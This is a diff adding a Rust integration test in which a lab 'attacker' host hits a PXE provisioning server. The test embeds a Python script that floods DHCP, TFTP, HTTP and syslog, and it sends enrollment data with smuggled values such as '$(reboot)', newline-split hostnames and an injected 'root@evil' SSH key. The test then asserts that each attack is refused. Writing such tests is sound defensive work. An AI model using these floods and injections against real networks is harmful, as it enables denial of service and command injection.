@@ -46,6 +46,86 @@ fn add_storage_node(
     Ok(format!("http://192.0.2.1:8080/install/{token}/preseed.cfg"))
 }
 
+/// A hostile host on the provisioning LAN (`attacker`, 192.0.2.66): takes node1's boot
+/// script by MAC, uses its install token (from the preseed URL the harness knows) for
+/// files and events, floods DHCP with random MACs and malformed options, holds TFTP
+/// sessions and idle HTTP connections, floods syslog. Each must be refused or
+/// contained; returns the attacker for later steps.
+fn hostile_lan_attacks<'a>(
+    attacker: &'a rackseed_tests::Netns,
+    srv: &Server,
+    mac: &str,
+    preseed_url: &str,
+) -> Result<Attacker<'a>> {
+    let a = Attacker { ns: attacker };
+    let (code, script) = a.curl(&[&format!(
+        "http://192.0.2.1:8080/boot/{}.ipxe",
+        mac.replace(':', "-")
+    )])?;
+    let script = String::from_utf8_lossy(&script);
+    assert!(
+        !script.contains("/install/"),
+        "a token reached the attacker (HTTP {code}): {script}"
+    );
+    let (code, body) = a.curl(&[preseed_url])?;
+    assert_eq!(code, 404, "{}", String::from_utf8_lossy(&body));
+    let events = preseed_url.replace("preseed.cfg", "events/error");
+    let (code, _) = a.curl(&["--data", "disk gone\nchain http://192.0.2.66/x", &events])?;
+    assert_eq!(code, 404);
+    let late = preseed_url.replace("preseed.cfg", "late.sh");
+    assert_eq!(
+        a.curl(&[&late])?.0,
+        404,
+        "late.sh (the enrollment token) served"
+    );
+    let flood = r#"
+import socket, struct, random, time
+random.seed(66)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+def discover(mac, extra):
+    hdr = struct.pack('!BBBBIHH4s4s4s4s16s64s128s', 1, 1, 6, 0, random.getrandbits(32), 0, 0x8000,
+                      bytes(4), bytes(4), bytes(4), bytes(4), mac + bytes(10), bytes(64), bytes(128))
+    v = b'PXEClient:Arch:00000:UNDI:002001'
+    return hdr + bytes([0x63, 0x82, 0x53, 0x63, 53, 1, 1, 60, len(v)]) + v + extra + bytes([255])
+for i in range(400):
+    s.sendto(discover(bytes([2, 0x66]) + random.getrandbits(32).to_bytes(4, 'big'), bytes([93, 2, 0, 0])), ('192.0.2.1', 67))
+for i in range(40):
+    s.sendto(discover(bytes([2, 0x67, 0, 0, 0, i]), bytes([94, 2, 1, 2])), ('192.0.2.1', 67))
+t = []
+for i in range(20):
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.sendto(b'\x00\x01undionly.kpxe\x00octet\x00timeout\x00255\x00windowsize\x0065535\x00', ('192.0.2.1', 69))
+    t.append(u)
+held = []
+for i in range(50):
+    c = socket.create_connection(('192.0.2.1', 8080))
+    c.send(b'GET /healthz HTTP/1.1\r\nHost: x\r\n')
+    held.append(c)
+l = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for i in range(3000):
+    l.sendto(b'<13>flood ' + b'A' * 2000 + b'\n$(reboot)', ('192.0.2.1', 514))
+time.sleep(2)
+"#;
+    let path = srv.dir.path().join("attack.py");
+    std::fs::write(&path, flood)?;
+    rackseed_tests::run(attacker.cmd("python3").arg(&path))?;
+    // rackseed still answers, and is healthy.
+    let (code, _) = srv.curl(&["http://192.0.2.1:8080/healthz"])?;
+    assert_eq!(code, 200);
+    Ok(a)
+}
+
+/// The attacker's namespace.
+struct Attacker<'a> {
+    ns: &'a rackseed_tests::Netns,
+}
+
+impl Attacker<'_> {
+    fn curl(&self, args: &[&str]) -> Result<(u16, Vec<u8>)> {
+        rackseed_tests::curl_in(&self.ns.name, args)
+    }
+}
+
 /// The per-node addresses the storage-node profile asks for (`method: node`).
 fn node_vars(n: u8) -> String {
     json!({"addresses": {"br-mgmt": format!("198.51.100.{n}"), "br-storage": format!("203.0.113.{n}")}}).to_string()
@@ -146,6 +226,10 @@ fn storage_nodes_enroll_into_a_group_and_replicate() -> Result<()> {
         srv: &srv,
         passed: false,
     };
+    // While the nodes boot, apply plans and enroll, a hostile host on the provisioning
+    // bridge tries what the hostile-LAN issue lists; the nodes must not notice.
+    let attacker = lab.host("52:54:00:66:00:01", Some("192.0.2.66/24"))?;
+    let hostile = hostile_lan_attacks(&attacker, &srv, m1, &p1)?;
 
     for host in ["node1", "node2"] {
         srv.wait_state(host, "enrolled", Duration::from_secs(1500))?;
@@ -357,6 +441,70 @@ fn storage_nodes_enroll_into_a_group_and_replicate() -> Result<()> {
         .unwrap_or_default();
     assert!(refusal.contains("zpool tank"), "{refusal}");
     assert_eq!(srv.node_state("node3")?, "installed");
+
+    // A leaked enrollment token (node3's, read from the inventory) used from the
+    // attacker with facts carrying shell and line breaks: refused on the facts, the
+    // token not used up, node3 still installed.
+    let token3 = rackseed_tests::sh(&format!(
+        "sqlite3 {} \"SELECT t.token FROM tokens t JOIN nodes n ON n.id = t.node_id WHERE n.hostname = 'node3' AND t.kind = 'enroll' AND t.used_at IS NULL\"",
+        srv.dir.path().join("data/inventory.db").display()
+    ))?;
+    let body = json!({
+        "token": token3.trim(),
+        "node": m3,
+        "csr": "-----BEGIN CERTIFICATE REQUEST-----\nx\n-----END CERTIFICATE REQUEST-----\n",
+        "replication_key": "ssh-ed25519 AAAA\nssh-ed25519 BBBB root@evil",
+        "facts": {
+            "hostname": "node3\nevil",
+            "machine_id": "$(reboot)",
+            "smbios_uuid": null,
+            "root": {"source": "/dev/md0", "fstype": "xfs"},
+            "md_arrays": [], "pools": [], "bonds": [], "vlans": [], "bridges": [],
+            "interfaces": [{"name": "eth0", "mac": m3, "mtu": 1500, "up": true}],
+            "addresses": [{"iface": "br-storage", "cidr": "203.0.113.13\" ssh-rsa AAAA evil"}],
+            "ssh_host_keys": []
+        }
+    });
+    let file = srv.dir.path().join("hostile-enroll.json");
+    std::fs::write(&file, body.to_string())?;
+    let (code, out) = hostile.curl(&[
+        "-H",
+        "Content-Type: application/json",
+        "--data-binary",
+        &format!("@{}", file.display()),
+        "http://192.0.2.1:8080/enroll",
+    ])?;
+    let out = String::from_utf8_lossy(&out);
+    assert_eq!(code, 400, "{out}");
+    assert!(
+        out.contains("the facts cannot be accepted") && out.contains("control character"),
+        "{out}"
+    );
+    assert_eq!(srv.node_state("node3")?, "installed");
+    let still = rackseed_tests::sh(&format!(
+        "sqlite3 {} \"SELECT COUNT(*) FROM tokens WHERE token = '{}' AND used_at IS NULL\"",
+        srv.dir.path().join("data/inventory.db").display(),
+        token3.trim()
+    ))?;
+    assert_eq!(still.trim(), "1", "a refused enrollment used up the token");
+    // The attacks were contained and are visible.
+    let m = String::from_utf8(srv.curl(&["http://192.0.2.1:8080/metrics"])?.1)?;
+    let metric = |name: &str| -> u64 {
+        m.lines()
+            .find_map(|l| l.strip_prefix(&format!("rackseed_{name} ")))
+            .and_then(|v| v.parse().ok())
+            .unwrap_or(0)
+    };
+    assert!(metric("token_refused_total") >= 2, "{m}");
+    assert!(metric("dhcp_discover_limited_total") >= 100, "{m}");
+    assert!(metric("dhcp_malformed_total") >= 20, "{m}");
+    assert!(metric("syslog_unattributed_total") >= 1000, "{m}");
+    assert!(
+        srv.timeline("node1")?
+            .iter()
+            .any(|(k, msg)| k == "refused" && msg.contains("to 192.0.2.66")),
+        "no refusal on node1's timeline"
+    );
     eprintln!(
         "first-boot test done {:.0?} after power-on; node3: {refusal}",
         started.elapsed()
@@ -365,10 +513,6 @@ fn storage_nodes_enroll_into_a_group_and_replicate() -> Result<()> {
     Ok(())
 }
 
-/// A disk holding an EFI system partition with the node image's kernel and initrd
-/// (booted by the kernel's own EFI stub, as an installed system's boot loader would
-/// boot it), made without mounting anything: a FAT image (mkfs.vfat, mcopy) written
-/// into partition 1 of a GPT disk (sgdisk).
 /// Debian's signed shim and GRUB for an installed system's EFI system partition
 /// (`shimx64.efi`, `grubx64.efi`), from the packages this host's APT sources offer,
 /// cached outside the work tree.
@@ -412,9 +556,11 @@ fn efi_loaders() -> Result<std::path::PathBuf> {
     Ok(dir)
 }
 
-/// An EFI system partition the way a Debian install leaves it: the signed shim and
-/// GRUB in `/EFI/debian`, with a `grub.cfg` that boots the node image's kernel (kept on
-/// the ESP here, as the image's root is XFS on RAID1).
+/// A disk holding an EFI system partition the way a Debian install leaves it: the
+/// signed shim and GRUB in `/EFI/debian`, with a `grub.cfg` that boots the node image's
+/// kernel (kept on the ESP here, as the image's root is XFS on RAID1). Made without
+/// mounting anything: a FAT image (mkfs.vfat, mmd, mcopy) written into partition 1 of
+/// a GPT disk (sgdisk).
 fn esp_disk(dir: &std::path::Path, image: &std::path::Path) -> Result<std::path::PathBuf> {
     use rackseed_tests::run;
     use std::process::Command;
